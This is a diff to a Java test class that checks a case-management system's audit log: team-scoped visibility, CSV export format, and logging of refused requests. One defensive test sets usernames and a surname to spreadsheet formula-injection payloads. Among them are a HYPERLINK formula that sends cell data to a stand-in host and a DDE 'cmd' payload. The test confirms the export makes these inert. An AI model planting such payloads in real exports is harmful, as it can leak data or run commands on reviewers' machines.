@@ -52,6 +52,12 @@ class AuditLogTest {
     @Autowired
     MockMvc mvc;
 
+    @Autowired
+    org.consilium.family.FamilyService families;
+
+    @Autowired
+    org.consilium.casefile.SharingService sharing;
+
     private List<AuditRow> entries(String user, Action action) {
         return signedIn.as("admin", () -> audit.search(new AuditFilter(user, "", action, null, null), PageRequest.of(0, 50)).getContent());
     }
@@ -117,7 +123,7 @@ class AuditLogTest {
                 throw new IllegalStateException(e);
             }
         });
-        assertThat(csv.toString()).startsWith("at;user;action;record");
+        assertThat(csv.toString()).startsWith("\uFEFF\"at\";\"user\";\"action\";\"record\"");
         assertThat(csv.toString().lines()).hasSize(rows + 1);
         assertThat(entries("supervisor", Action.EXPORT)).first().satisfies(e -> assertThat(e.detail()).contains("action=VIEW"));
 
@@ -125,6 +131,112 @@ class AuditLogTest {
             assertThatThrownBy(() -> signedIn.as(user, () -> audit.search(AuditFilter.any(), PageRequest.of(0, 1))))
                     .as(user).isInstanceOf(AccessDeniedException.class);
         }
+    }
+
+    /** The CSV as a supervisor or administrator downloads it, filtered. */
+    private String csv(String reader, AuditFilter filter) {
+        StringWriter out = new StringWriter();
+        signedIn.as(reader, () -> {
+            try {
+                return audit.exportCsv(filter, 1000, out);
+            } catch (java.io.IOException e) {
+                throw new IllegalStateException(e);
+            }
+        });
+        return out.toString();
+    }
+
+    private List<AuditRow> search(String reader, AuditFilter filter) {
+        return signedIn.as(reader, () -> audit.search(filter, PageRequest.of(0, 500)).getContent());
+    }
+
+    @Test
+    void a_supervisor_of_another_team_reads_only_their_own_staffs_entries_and_the_csv_holds_the_same() {
+        long caseId = testCases.openCaseForDemoCurator();
+        long familyId = jdbc.queryForObject("SELECT family_id FROM family_case WHERE id = ?", Long.class, caseId);
+        signedIn.as("curator", () -> cases.view(caseId));
+        assertThatThrownBy(() -> signedIn.as("school", () -> sharing.shared(caseId))).isInstanceOf(AccessDeniedException.class);
+        String otherSupervisor = staff.createInAnotherTeam("osup.", "Тарас Левчук", AppRoles.SUPERVISOR, "other-team-2");
+        String otherCurator = staff.createBeside(otherSupervisor, "ocur.", "Ніна Гайова", AppRoles.CURATOR, "other-team-3");
+        long kovalenko = jdbc.queryForObject("SELECT MIN(family_id) FROM family_member WHERE last_name = 'Коваленко'", Long.class);
+        signedIn.as(otherCurator, () -> families.open(kovalenko));
+        assertThatThrownBy(() -> signedIn.as(otherSupervisor, () -> cases.view(caseId))).isInstanceOf(AccessDeniedException.class);
+
+        AuditFilter savchenko = new AuditFilter("", "Савченко", null, null, null);
+        assertThat(search("admin", savchenko)).extracting(AuditRow::caseId).contains(caseId);
+        assertThat(search("supervisor", savchenko)).extracting(AuditRow::caseId).contains(caseId);
+        assertThat(search("supervisor", new AuditFilter("school", "", Action.DENIED, null, null)))
+                .as("the case's team sees who was refused its case").extracting(AuditRow::caseId).contains(caseId);
+        assertThat(search(otherSupervisor, AuditFilter.any())).isNotEmpty()
+                .allSatisfy(r -> assertThat(r.username()).isIn(otherSupervisor, otherCurator));
+        assertThat(search(otherSupervisor, savchenko)).as("only their own refused attempt at the other team's case")
+                .singleElement().satisfies(r -> {
+                    assertThat(r.action()).isEqualTo(Action.DENIED);
+                    assertThat(r.familyId()).isEqualTo(familyId);
+                });
+        assertThat(search(otherSupervisor, new AuditFilter("", "Коваленко", null, null, null)))
+                .singleElement().satisfies(r -> {
+                    assertThat(r.username()).isEqualTo(otherCurator);
+                    assertThat(r.action()).isEqualTo(Action.VIEW);
+                });
+        assertThat(search("supervisor", new AuditFilter(otherCurator, "", null, null, null)))
+                .as("the family's own team sees who opened its family").extracting(AuditRow::familyId).containsOnly(kovalenko);
+
+        String theirs = csv(otherSupervisor, new AuditFilter("", "Коваленко", null, null, null));
+        assertThat(theirs.lines()).hasSize(2);
+        assertThat(theirs).contains(otherCurator).doesNotContain("\"curator\"", "\"supervisor\"");
+        assertThat(csv(otherSupervisor, savchenko).lines()).hasSize(2);
+        assertThat(csv("supervisor", savchenko)).contains("\"curator\"");
+    }
+
+    @Test
+    void every_cell_that_a_spreadsheet_would_run_as_a_formula_is_made_inert_in_the_csv() throws Exception {
+        String marker = SignedIn.unique("x");
+        List<String> typed = List.of("=HYPERLINK(\"http://ev.il/?\"&B2)", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)", "\tTAB", "\rCR");
+        for (String name : typed) {
+            if (Character.isWhitespace(name.charAt(0))) {
+                // The sign-in form trims what is typed; an entry written otherwise could still start so.
+                jdbc.update("INSERT INTO audit_entry (at, username, action, entity_type) VALUES (CURRENT_TIMESTAMP, ?, 'SIGN_IN_FAILED', 'account')",
+                        name + marker);
+            } else {
+                mvc.perform(post("/login").param("username", name + marker).param("password", "wrong").with(csrf()));
+            }
+        }
+        org.consilium.family.FamilyDetails evil = new org.consilium.family.FamilyDetails();
+        evil.setMembers(List.of(new org.consilium.family.MemberDetails("=Коваль" + marker, "Ліна",
+                java.time.LocalDate.parse("1990-01-01"), org.consilium.family.Sex.FEMALE, org.consilium.family.Relation.MOTHER)));
+        long evilFamily = signedIn.as("intake", () -> families.register(evil, true)).getId();
+        signedIn.as("curator", () -> families.open(evilFamily));
+
+        String byName = csv("admin", new AuditFilter(marker, "", Action.SIGN_IN_FAILED, null, null));
+        String byFamily = csv("admin", new AuditFilter("", marker, Action.VIEW, null, null));
+        List<List<String>> rows = java.util.stream.Stream.concat(byName.lines().skip(1), byFamily.lines().skip(1))
+                .map(AuditLogTest::fields).toList();
+        assertThat(rows).hasSize(typed.size() + 1);
+        assertThat(rows).extracting(r -> r.get(1)).filteredOn(u -> u.contains(marker)).hasSize(typed.size())
+                .allSatisfy(u -> assertThat(u).startsWith("'"));
+        assertThat(rows).extracting(r -> r.get(5)).filteredOn(f -> f.contains(marker)).singleElement()
+                .satisfies(f -> assertThat(f).startsWith("'=Коваль"));
+        assertThat(rows).flatExtracting(r -> r).noneSatisfy(cell -> assertThat(cell).matches("(?s)^[=+\\-@\t\r].*"));
+    }
+
+    @Test
+    void a_failed_sign_in_keeps_the_typed_name_cut_to_the_length_of_an_account_name() throws Exception {
+        String marker = SignedIn.unique("long");
+        mvc.perform(post("/login").param("username", marker + "y".repeat(300)).param("password", "wrong").with(csrf()));
+        String kept = jdbc.queryForObject("SELECT username FROM audit_entry WHERE username LIKE ? AND action = 'SIGN_IN_FAILED'",
+                String.class, marker + "%");
+        assertThat(kept).hasSize(org.consilium.account.UserAccount.USERNAME_MAX + 1).endsWith("y…");
+    }
+
+    /** The fields of one CSV line as a spreadsheet reads them: quotes taken off, doubled quotes single. */
+    private static List<String> fields(String line) {
+        List<String> out = new java.util.ArrayList<>();
+        for (String f : line.split(";(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1)) {
+            out.add(f.startsWith("\"") ? f.substring(1, f.length() - 1).replace("\"\"", "\"") : f);
+        }
+        return out;
     }
 
     @Test
@@ -137,6 +249,19 @@ class AuditLogTest {
 
         assertThat(jdbc.queryForList("SELECT action FROM audit_entry WHERE username = ? ORDER BY id", String.class, user))
                 .containsSubsequence("SIGN_IN_FAILED", "SIGN_IN", "SIGN_OUT");
+    }
+
+    @Test
+    void a_web_address_refused_to_a_signed_in_user_is_recorded_with_its_method_and_path() throws Exception {
+        String user = staff.create("adr.", "Адреса Відмова", AppRoles.CURATOR, AgencyType.SOCIAL_SERVICES, "address-pass-1");
+        MockHttpSession session = (MockHttpSession) mvc.perform(post("/login").param("username", user)
+                .param("password", "address-pass-1").with(csrf())).andReturn().getRequest().getSession();
+        int status = mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get("/actuator/env")
+                .queryParam("q", "Коваленко").session(session)).andReturn().getResponse().getStatus();
+
+        assertThat(status).isEqualTo(403);
+        assertThat(jdbc.queryForList("SELECT CONCAT(entity_type, ' ', detail) FROM audit_entry WHERE username = ? AND action = 'DENIED'",
+                String.class, user)).containsExactly("address GET /actuator/env");
     }
 
     @Test
